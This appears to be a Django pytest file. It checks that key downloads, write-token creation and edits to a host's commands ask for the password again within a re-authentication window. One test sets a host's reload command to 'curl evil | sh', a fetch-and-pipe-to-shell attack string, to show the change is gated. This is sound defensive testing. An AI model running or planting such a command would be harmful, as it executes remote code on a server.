"""Downloading a private key, creating a write token and setting a host's
commands ask for the password again, unless it was entered within
REAUTHENTICATION_SECONDS; the request then goes through as it was sent."""

import time

import pytest
from django.urls import reverse

from accounts.tests.factors import reauthenticate
from api.models import APIToken
from certificates.forms import HostForm
from certificates.models import AuditEvent, TargetHost

pytestmark = pytest.mark.django_db
REAUTH = reverse("account_reauthenticate")


def asks_to_reauthenticate(response):
    return response.status_code == 302 and response["Location"].startswith(REAUTH + "?next=")


def test_a_key_download_asks_for_the_password_then_goes_through(client, world, owner):
    client.force_login(owner)
    url = reverse("certificates:download_key", args=[world["certificate"].pk])
    response = client.post(url)
    assert asks_to_reauthenticate(response)
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.KEY_DOWNLOAD).exists()
    # The password, and the suspended download is carried out.
    response = client.post(response["Location"], {"password": "pw-owner"})
    assert response.status_code == 200
    assert b"PRIVATE KEY" in response.content
    assert AuditEvent.objects.filter(action=AuditEvent.Action.KEY_DOWNLOAD).count() == 1


def test_a_wrong_password_does_not_release_the_key(client, world, owner):
    client.force_login(owner)
    url = reverse("certificates:download_key", args=[world["certificate"].pk])
    response = client.post(client.post(url)["Location"], {"password": "wrong"})
    assert b"PRIVATE KEY" not in response.content


def test_a_re_authentication_lasts_its_window_only(client, world, owner, settings):
    client.force_login(owner)
    reauthenticate(client, owner)
    url = reverse("certificates:download_key", args=[world["certificate"].pk])
    assert client.post(url).status_code == 200
    session = client.session
    for record in session["account_authentication_methods"]:
        record["at"] = time.time() - settings.REAUTHENTICATION_SECONDS - 1
    session.save()
    assert asks_to_reauthenticate(client.post(url))


def test_a_write_token_asks_for_the_password_a_read_token_does_not(client, owner):
    client.force_login(owner)
    read = client.post(reverse("api:tokens"), {"name": "r", "scopes": ["read"], "lifetime": 30})
    assert read.status_code == 200
    write = client.post(reverse("api:tokens"),
                        {"name": "w", "scopes": ["read", "write"], "lifetime": 30})
    assert asks_to_reauthenticate(write)
    assert list(APIToken.objects.values_list("name", flat=True)) == ["r"]
    response = client.post(write["Location"], {"password": "pw-owner"})
    assert response.status_code == 200
    assert APIToken.objects.get(name="w").scopes == ["read", "write"]


def _host_form_data(host, **changes):
    form = HostForm(instance=host, organization=host.organization)
    data = {name: form[name].value() for name in form.fields}
    data = {name: value for name, value in data.items() if value is not None}
    data.update(changes)
    return data


def test_changing_a_hosts_commands_asks_for_the_password(client, world, owner):
    host = world["host"]
    client.force_login(owner)
    url = reverse("certificates:host_edit", args=[host.pk])
    response = client.post(url, _host_form_data(host, reload_command="curl evil | sh"))
    assert asks_to_reauthenticate(response)
    assert TargetHost.objects.get(pk=host.pk).reload_command != "curl evil | sh"
    response = client.post(response["Location"], {"password": "pw-owner"})
    assert response.status_code == 302
    assert TargetHost.objects.get(pk=host.pk).reload_command == "curl evil | sh"


def test_other_changes_to_a_host_do_not_ask(client, world, owner):
    host = world["host"]
    client.force_login(owner)
    response = client.post(reverse("certificates:host_edit", args=[host.pk]),
                           _host_form_data(host, name="renamed"))
    assert response.status_code == 302, response.content.decode()[:3000]
    assert not response["Location"].startswith(REAUTH)
    assert TargetHost.objects.get(pk=host.pk).name == "renamed"
